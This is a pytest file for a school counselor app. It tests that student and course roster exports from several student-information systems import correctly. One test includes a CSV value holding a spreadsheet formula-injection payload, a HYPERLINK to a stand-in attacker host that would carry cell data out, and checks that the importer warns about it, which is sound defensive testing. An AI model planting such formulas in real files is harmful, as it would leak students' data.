"""Real SIS export layouts import without renaming a column (tests/fixtures/sis/).

PowerSchool (DCID, ID and Student_Number together; Sched_YearOfGraduation), Infinite
Campus in both header styles (Ad Hoc ``student.*`` and plain), Skyward, Aeries,
Synergy, OneRoster 1.1 (zip, folder, bare users.csv; bulk and delta), a Windows-1252
catalog with one "Grades" column and decimal commas, and XLSX with title rows and
numeric IDs.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import shutil
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from counselor_app.domain import Course, Student
from counselor_app.services.backups import list_backups
from counselor_app.services.imports import (
    ImportRefused,
    apply_import,
    inspect_columns,
    preview_import,
)
from counselor_app.store.engine import Database

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "sis"


def digest(db: Database) -> str:
    assert db.path is not None
    con = sqlite3.connect(db.path)
    try:
        return hashlib.sha256("".join(con.iterdump()).encode()).hexdigest()
    finally:
        con.close()


def students(db: Database) -> dict[str, Student]:
    with db.read() as s:
        return {st.student_id: st for st in s.scalars(select(Student))}


def test_powerschool_student_number_wins_over_id_and_dcid(db: Database) -> None:
    path = FIXTURES / "powerschool_students.csv"
    preview = preview_import(db, "students", path)
    assert preview.ok, preview.errors
    assert any('read from "Student_Number", the more specific column' in n
               and '"DCID", "ID" ignored' in n for n in preview.notes)
    assert [i.key for i in preview.to_add] == ["000123", "000124", "000125", "000126"]
    assert sum(preview.left_out.values()) == 2  # grade 0 (K) and grade 13
    apply_import(db, "students", path)
    rows = students(db)
    assert rows["000123"].graduation_year == 2030  # from Sched_YearOfGraduation
    assert rows["000126"].first_name == "José"
    assert "5001" not in rows and "4411" not in rows


def test_infinite_campus_ad_hoc_and_plain_headers(db: Database) -> None:
    adhoc = apply_import(db, "students", FIXTURES / "ic_adhoc_students.csv")
    assert adhoc.added == 2 and sum(adhoc.preview.left_out.values()) == 1  # the KG row
    plain = apply_import(db, "students", FIXTURES / "ic_standard_students.csv")
    assert plain.added == 2
    rows = students(db)
    assert rows["200001"].school == "Lincoln High School" and rows["200001"].grade == 11
    assert rows["300001"].counselor == "Ortiz"
    assert "88001" not in rows and "77001" not in rows  # personID is internal


@pytest.mark.parametrize("name,sid,school", [
    ("skyward_students.csv", "400001", "Washington High"),
    ("aeries_students.csv", "500001", "Valley High"),
    ("synergy_students.csv", "600001", "Mesa High"),
])
def test_other_sis_layouts(db: Database, name: str, sid: str, school: str) -> None:
    result = apply_import(db, "students", FIXTURES / name)
    assert result.added == 2
    assert students(db)[sid].school == school


def test_reimport_without_a_year_column_keeps_corrected_graduation_years(db: Database) -> None:
    apply_import(db, "students", FIXTURES / "ic_standard_students.csv")
    with db.transaction() as s:  # the counselor corrects a retained student's year
        st = s.scalar(select(Student).where(Student.student_id == "300001"))
        assert st is not None
        st.graduation_year = st.graduation_year + 1
        corrected = st.graduation_year
    again = apply_import(db, "students", FIXTURES / "ic_standard_students.csv")
    assert again.added == 0 and again.updated == 0
    assert students(db)["300001"].graduation_year == corrected


def _zip(folder: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as zf:
        for f in sorted(folder.iterdir()):
            zf.write(f, f.name)
    return target


def test_oneroster_zip_imports_enabled_students_only(db: Database, tmp_path: Path) -> None:
    roster = _zip(FIXTURES / "oneroster_bulk", tmp_path / "roster.zip")
    preview = preview_import(db, "students", roster)
    assert preview.ok, preview.errors
    assert any("OneRoster 1.1" in n and "bulk" in n for n in preview.notes)
    assert any("demographics.csv is not read" in n for n in preview.notes)
    assert preview.left_out == {"role teacher, not a student": 2,
                                "role parent, not a student": 1,
                                "role administrator, not a student": 1,
                                "account not enabled (enabledUser false)": 1,
                                "a grade the planner does not keep (K-5, 13)": 1}
    assert not [c for c in preview.unknown_columns if c.endswith((": role", ": status"))]
    assert [i.key for i in preview.to_add] == ["000123", "000124", "000130"]
    apply_import(db, "students", roster)
    rows = students(db)
    assert rows["000123"].school == "Lincoln High School" and rows["000123"].grade == 9
    assert rows["000130"].school == "Lincoln Middle School" and rows["000130"].grade == 8
    assert not {"T100", "P1", "A1", "000131", "000140"} & set(rows)


def test_oneroster_folder_and_bare_users_csv(db: Database, tmp_path: Path) -> None:
    folder = shutil.copytree(FIXTURES / "oneroster_bulk", tmp_path / "export")
    assert preview_import(db, "students", folder).ok
    bare = tmp_path / "users.csv"
    shutil.copy(FIXTURES / "oneroster_bulk" / "users.csv", bare)
    preview = preview_import(db, "students", bare)
    assert preview.ok and len(preview.to_add) == 3
    assert any("no manifest.csv" in n for n in preview.notes)


def test_oneroster_delta_updates_and_archives(db: Database, tmp_path: Path) -> None:
    apply_import(db, "students", _zip(FIXTURES / "oneroster_bulk", tmp_path / "bulk.zip"))
    delta = apply_import(db, "students", _zip(FIXTURES / "oneroster_delta",
                                              tmp_path / "delta.zip"))
    assert delta.updated == 1 and delta.archived == 1
    rows = students(db)
    assert rows["000124"].last_name == "Chen-Park"
    assert rows["000123"].archived  # archived, never deleted


def test_a_refused_oneroster_file_names_users_csv_and_changes_nothing(
        db: Database, tmp_path: Path) -> None:
    folder = shutil.copytree(FIXTURES / "oneroster_bulk", tmp_path / "bad")
    users = folder / "users.csv"
    users.write_text(users.read_text().replace(",000124,", ",,"), encoding="utf-8")
    before = digest(db)
    with pytest.raises(ImportRefused) as info:
        apply_import(db, "students", _zip(folder, tmp_path / "bad.zip"))
    error = info.value.preview.errors[0]
    assert error.file == "bad.zip: users.csv" and error.row == 3
    assert error.column == "identifier"
    assert digest(db) == before and not list_backups(db.path)  # type: ignore[arg-type]


def test_windows_1252_catalog_with_one_grades_column_and_decimal_commas(db: Database) -> None:
    path = FIXTURES / "catalog_windows1252.csv"
    preview = preview_import(db, "courses", path)
    assert preview.ok, preview.errors
    assert any("Windows-1252" in n for n in preview.notes)
    assert any("decimal comma" in n for n in preview.notes)
    apply_import(db, "courses", path)
    with db.read() as s:
        got = {c.code: (c.title, c.grade_low, c.grade_high, c.credits)
               for c in s.scalars(select(Course).where(Course.code.in_(
                   ["10152", "10153", "10154"])))}
    assert got["10152"] == ("Intro to Programming – Python", 10, 12, 1.0)
    assert got["10153"] == ("Café Management", 11, 12, 0.5)
    assert got["10154"][1:3] == (12, 12)


def test_ambiguous_thousands_comma_is_refused(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("Code;Title;Subject;Credits\nZ1;X;Elective;1,000\n", encoding="utf-8")
    preview = preview_import(db, "courses", path)
    assert [(e.row, e.column) for e in preview.errors] == [(2, "Credits")]
    assert "ambiguous" in preview.errors[0].reason


def _title_row_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["Lincoln High School: student roster"])
    ws.append(["Printed 2026-11-30"])
    ws.append([])
    ws.append(["Student ID", "Last Name", "First Name", "Grade"])
    ws.append([123, "Rivera", "Ana", 9])
    ws.append(["000124", "Chen", "Li", 10])
    wb.save(path)
    return path


def test_xlsx_title_rows_and_numeric_ids(db: Database, tmp_path: Path) -> None:
    path = _title_row_workbook(tmp_path / "roster.xlsx")
    preview = preview_import(db, "students", path)
    assert preview.ok, preview.errors
    assert any("the header is row 4" in n for n in preview.notes)
    assert [(w.row, w.column) for w in preview.warnings] == [(5, "Student ID")]
    assert "leading zeros" in preview.warnings[0].reason


def test_a_number_that_lost_its_zeros_is_not_a_second_student(db: Database,
                                                               tmp_path: Path) -> None:
    apply_import(db, "students", FIXTURES / "powerschool_students.csv")
    path = _title_row_workbook(tmp_path / "roster.xlsx")
    preview = preview_import(db, "students", path)
    assert [(e.row, e.column) for e in preview.errors] == [(5, "Student ID")]
    assert "000123" in preview.errors[0].reason


def test_forced_encoding_against_a_bom_is_warned_about(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_bytes("Student ID,Last Name,First Name,Grade\n1,Muñoz,José,9\n"
                     .encode("utf-8-sig"))
    preview = preview_import(db, "students", path, "cp1252")
    assert any("byte-order mark" in n for n in preview.notes)


def test_every_error_in_one_pass_cell_and_cross_row(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("Code,Title,Subject,Credits,Prerequisites\n"
                    "A1,,Elective,1,NOPE\n"  # empty title AND an unknown prerequisite
                    "A2,Two,Elective,1,A1\n", encoding="utf-8")
    preview = preview_import(db, "courses", path)
    got = sorted((e.row, e.column) for e in preview.errors)
    assert got == [(2, "Prerequisites"), (2, "Title"), (3, "Prerequisites")]


def test_mapping_by_hand_and_remembered_for_the_layout(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "odd.csv"
    path.write_text("Pupil,Fam,Giv,Yr\nX1,Rivera,Ana,9\n", encoding="utf-8")
    assert not preview_import(db, "students", path).ok
    mapping = {"Pupil": "student_id", "Fam": "Last Name", "Giv": "first_name", "Yr": "grade"}
    assert inspect_columns(db, "students", path).remembered is None  # type: ignore[union-attr]
    result = apply_import(db, "students", path, mapping=mapping)
    assert result.added == 1
    report = inspect_columns(db, "students", path)
    assert report is not None and report.remembered == mapping
    assert report.samples == ["X1", "Rivera", "Ana", "9"]


def test_good_rows_import_writes_the_rejects_beside_the_source(db: Database,
                                                               tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("Student ID,Last Name,First Name,Grade\n"
                    "1,Rivera,Ana,9\n2,,Li,10\n3,Okafor,Ada,15\n4,Chen,Mei,11\n",
                    encoding="utf-8")
    with pytest.raises(ImportRefused):
        apply_import(db, "students", path)  # all or nothing stays the default
    assert not students(db)
    result = apply_import(db, "students", path, good_rows=True)
    assert result.added == 2 and result.rejected == 2
    assert result.rejects_file is not None and result.rejects_file.parent == tmp_path
    lines = result.rejects_file.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "Row,Student ID,Last Name,First Name,Grade,Reason"
    assert lines[1].startswith("3,2,,Li,10,Last Name: is empty")
    assert lines[2].startswith("4,3,Okafor,Ada,15,Grade:")
    assert result.rejects_file.stat().st_mode & 0o777 == 0o600
    assert set(students(db)) == {"1", "4"}


def test_good_rows_refuses_a_file_level_error(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("Student ID,First Name,Grade\n1,Ana,9\n", encoding="utf-8")
    before = digest(db)
    with pytest.raises(ImportRefused):
        apply_import(db, "students", path, good_rows=True)
    assert digest(db) == before and not list_backups(db.path)  # type: ignore[arg-type]


def test_injection_in_an_import_is_warned_about(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("Student ID,Last Name,First Name,Grade\n"
                    '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")",Ana,9\n',
                    encoding="utf-8")
    preview = preview_import(db, "students", path)
    assert preview.ok
    assert [(w.row, w.column) for w in preview.warnings] == [(2, "Last Name")]
    assert "formula" in preview.warnings[0].reason


def test_graduation_year_synonyms(db: Database, tmp_path: Path) -> None:
    year = dt.date.today().year + 3
    for header in ("Graduation Year", "YOG", "Cohort", "Sched_YearOfGraduation"):
        path = tmp_path / f"{header}.csv"
        path.write_text(f"Student ID,Last Name,First Name,Grade,{header}\n"
                        f"G1,Rivera,Ana,10,{year}\n", encoding="utf-8")
        preview = preview_import(db, "students", path)
        assert preview.ok and not preview.unknown_columns, header


def test_csv_title_rows_and_every_grade_range_spelling(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "catalog.csv"
    path.write_text("District catalog,,,\nPrinted 2026-11-30,,,\n,,,\n"
                    "Code,Title,Subject,Grades\n"
                    "R1,One,Elective,9-12\nR2,Two,Elective,9–12\nR3,Three,Elective,11\n"
                    "R4,Four,Elective,10 - 12\nR5,Five,Elective,Grade 10 to 12\n",
                    encoding="utf-8")
    preview = preview_import(db, "courses", path)
    assert preview.ok, preview.errors
    assert any("the header is row 4" in n for n in preview.notes)
    apply_import(db, "courses", path)
    with db.read() as s:
        got = {c.code: (c.grade_low, c.grade_high) for c in s.scalars(
            select(Course).where(Course.code.in_(["R1", "R2", "R3", "R4", "R5"])))}
    assert got == {"R1": (9, 12), "R2": (9, 12), "R3": (11, 11), "R4": (10, 12),
                   "R5": (10, 12)}
